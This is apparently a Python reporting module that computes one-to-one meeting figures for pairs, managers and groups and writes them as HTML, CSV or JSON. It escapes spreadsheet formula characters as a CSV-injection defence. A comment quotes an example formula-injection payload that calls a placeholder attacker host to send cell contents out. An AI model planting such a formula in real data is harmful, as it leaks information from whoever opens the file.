"""`onetoone report`: the figures of every pair, manager and group, as pages, CSV or JSON.

:func:`build` turns stored histories into a :class:`Report`; :func:`render_files` turns that
into named files (the CLI writes them, owner-only). Pages are self-contained: inline CSS and
SVG, no scripts, no external assets, so they open from a file share or any web host.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from service.domain.insight import (
    Figures,
    Group,
    PairFigures,
    Period,
    attention,
    by_leader,
    by_manager,
    cadence_days,
    meeting_cadence,
    pair_figures,
    pair_span,
    pair_zone,
    rollup,
    unreadable_since,
    unreadable_words,
)
from service.domain.own_series import below_guidance
from service.domain.records import (
    ActionRecord,
    OccurrenceRecord,
    PairingView,
    SeriesRecord,
    TopicRecord,
)
from service.domain.status import PairingStatus, SeriesStatus
from service.domain.timezones import local_date
from service.insight.charts import heat_map, month_chart
from service.render import render

FORMATS = ("html", "csv", "json")


@dataclass(frozen=True)
class History:
    """What the report needs of one pair (the store's PairHistory has this shape)."""

    view: PairingView
    occurrences: Sequence[OccurrenceRecord]
    actions: Sequence[ActionRecord]
    topics: Sequence[TopicRecord]
    # Each series' cadence by its id: a meeting skipped for an absence excuses its own
    # series' cadence (a new starter's weekly one), not the one the pair has now.
    cadences: Mapping[int, str] = field(default_factory=dict)
    # The pair's series followed on from, failing to be listed (see unreadable_since).
    superseded: Sequence[SeriesRecord] = ()


@dataclass(frozen=True)
class Report:
    period: Period
    min_group_size: int
    pairs: tuple[PairFigures, ...]
    managers: tuple[tuple[str, Figures], ...]
    groups: tuple[Group, ...]
    smaller_groups: Figures | None
    combined_groups: int
    total: Figures

    @property
    def attention(self) -> list[PairFigures]:
        return [p for p in self.pairs if p.attention]


def _cadence(h: Any) -> str:
    series = h.view.series
    return str(series.cadence if series is not None else h.view.pairing.cadence or "monthly")


def _rarer(view: Any, period: Period) -> str:
    """Words for a live pair whose series, begun, meets less often than the guidance asks
    (chosen in Outlook and kept as it stands), or ""."""
    series, pairing = view.series, view.pairing
    if (series is None or series.status != SeriesStatus.ACTIVE
            or pairing.status != PairingStatus.ACTIVE
            or series.first_date > period.now.date()):
        return ""
    return below_guidance(series.cadence, pairing)


def build(histories: Sequence[Any], period: Period, min_group_size: int) -> Report:
    """The report over ``period`` for pairs that had a meeting in it or are still live."""
    pairs: list[PairFigures] = []
    for h in histories:
        # Gaps count only while the pair existed: not overdue before it began or after it ended.
        # A pair whose calendar could not be read lately is judged up to then, and says so.
        zone = pair_zone(h.view)
        unreadable = unreadable_since(h.view, period, h.superseded, zone=zone)
        span = pair_span(h.view.pairing, h.occurrences, h.view.report.hire_date, unreadable,
                         zone=zone)
        cadence = meeting_cadence(h.occurrences, h.cadences, period, span, _cadence(h), zone)
        figures = pair_figures(h.occurrences, h.actions, h.topics, period, span,
                               cadence=cadence, cadences=h.cadences, zone=zone)
        met = figures.planned + figures.skipped_for_absence
        # (The pairing's end, not the span's: one left to its own series is still a pair.)
        ended = h.view.pairing.ended_at
        begins, ends = period.local(zone)  # (its days where it meets, as its meetings')
        if met == 0 and ((ended is not None and ended < begins)
                         or (span.began is not None and span.began >= ends)):
            continue  # ended before the period, or began after it: nothing to say about it
        why = attention(h.occurrences, h.actions, cadence, period, span, h.cadences, zone,
                        h.topics)
        if unreadable is not None:
            why = (unreadable_words(unreadable), *why)
        if rarer := _rarer(h.view, period):
            why = (*why, rarer)
        pairs.append(PairFigures(h.view, cadence, figures, why))
    pairs.sort(key=lambda p: (p.view.manager.name.lower(), p.view.report.name.lower()))
    groups, smaller, combined = by_leader(pairs, min_group_size)
    return Report(period, min_group_size, tuple(pairs), tuple(by_manager(pairs)),
                  tuple(groups), smaller, combined, rollup(pairs))


# -- rows: one shape for the pages, CSV and JSON ----------------------------------------------

COLUMNS = ("pairs", "planned", "held", "held_no_notes", "moved", "cancelled", "declined",
           "upcoming", "missed", "longest_gap_days", "actions_opened", "actions_closed",
           "actions_overdue", "median_days_to_close", "report_led_share", "development_share",
           # Added after the others: files read by column position keep their columns.
           "skipped_for_absence")
# Added later still, after every column a file already had (pairs.csv: after
# needs_attention), so files read by column position keep theirs.
LATER_COLUMNS = ("outcome_unknown",)
PAIR_LATER_COLUMNS = ("status", "ended", *LATER_COLUMNS)


def figure_row(f: Figures) -> dict[str, Any]:
    def share(v: float | None) -> float | None:
        return None if v is None else round(v, 3)

    median = f.median_days_to_close
    return {"pairs": f.pairs, "planned": f.planned, "held": f.held,
            "held_no_notes": f.held_no_notes, "moved": f.moved, "cancelled": f.cancelled,
            "declined": f.declined, "upcoming": f.upcoming, "missed": f.missed,
            "longest_gap_days": f.longest_gap_days, "actions_opened": f.actions_opened,
            "actions_closed": f.actions_closed, "actions_overdue": f.actions_overdue,
            "median_days_to_close": None if median is None else round(median, 1),
            "report_led_share": share(f.report_led_share),
            "development_share": share(f.development_share),
            "skipped_for_absence": f.skipped_for_absence,
            "outcome_unknown": f.outcome_unknown}


def pair_row(p: PairFigures) -> dict[str, Any]:
    v = p.view
    # The day it ended where the pair met, as its meetings are dated (the sync that ended
    # a Sydney pair at 07:00 ran the day before in UTC).
    ended = v.pairing.ended_at
    return {"manager": v.manager.name, "manager_email": v.manager.email,
            "report": v.report.name, "report_email": v.report.email,
            "cadence": p.cadence, "cadence_days": cadence_days(p.cadence),
            **figure_row(p.figures), "needs_attention": "; ".join(p.attention),
            "status": v.pairing.status,
            "ended": local_date(ended, pair_zone(v)).isoformat() if ended else None}


def group_rows(report: Report) -> list[dict[str, Any]]:
    rows = [{"group": f"under {g.leader}", **figure_row(g.figures)} for g in report.groups]
    if report.smaller_groups is not None:
        rows.append({"group": f"{report.combined_groups} smaller group(s) combined",
                     **figure_row(report.smaller_groups)})
    return rows


def tables(report: Report) -> dict[str, list[dict[str, Any]]]:
    return {
        "pairs": [pair_row(p) for p in report.pairs],
        "managers": [{"manager": name, **figure_row(f)} for name, f in report.managers],
        "groups": group_rows(report),
        "attention": [{"manager": p.view.manager.name, "report": p.view.report.name,
                       "why": "; ".join(p.attention)} for p in report.attention],
    }


# -- files -------------------------------------------------------------------------------------


# A text cell starting with one of these is a formula to Excel, LibreOffice and Sheets: a
# display name such as =HYPERLINK("https://evil.example/?"&C2) would run when HR opens the file.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text (OWASP's advice: a leading
    apostrophe); numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def _csv(rows: list[dict[str, Any]], columns: Sequence[str]) -> str:
    out = io.StringIO()
    # CRLF as RFC 4180 has it; it also makes the writer quote a cell holding a lone CR.
    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: _cell(row.get(k)) for k in columns})
    return out.getvalue()


def render_files(report: Report, fmt: str, generated: str) -> dict[str, str]:
    """File name -> content for ``fmt`` (html: four pages; csv: one file per table)."""
    data = tables(report)
    meta = {"from": report.period.start.isoformat(), "to": report.period.end.isoformat(),
            "generated": generated, "min_group_size": report.min_group_size}
    if fmt == "json":
        body = {**meta, "total": figure_row(report.total), **data}
        return {"report.json": json.dumps(body, indent=2, ensure_ascii=False) + "\n"}
    if fmt == "csv":
        heads = {"pairs": ("manager", "manager_email", "report", "report_email", "cadence",
                           "cadence_days", *COLUMNS, "needs_attention", *PAIR_LATER_COLUMNS),
                 "managers": ("manager", *COLUMNS, *LATER_COLUMNS),
                 "groups": ("group", *COLUMNS, *LATER_COLUMNS),
                 "attention": ("manager", "report", "why")}
        return {f"{name}.csv": _csv(rows, heads[name]) for name, rows in data.items()}
    months = report.period.months()
    common: dict[str, Any] = {"meta": meta, "period": report.period, "report": report, "data": data,
              "columns": COLUMNS, "total": figure_row(report.total)}
    return {
        "index.html": render("report_index.html.j2", **common,
                             months_chart=month_chart(report.total, months),
                             heat=heat_map(report.managers, months)),
        "pairs.html": render("report_pairs.html.j2", **common),
        "managers.html": render("report_managers.html.j2", **common),
        "groups.html": render("report_groups.html.j2", **common),
    }
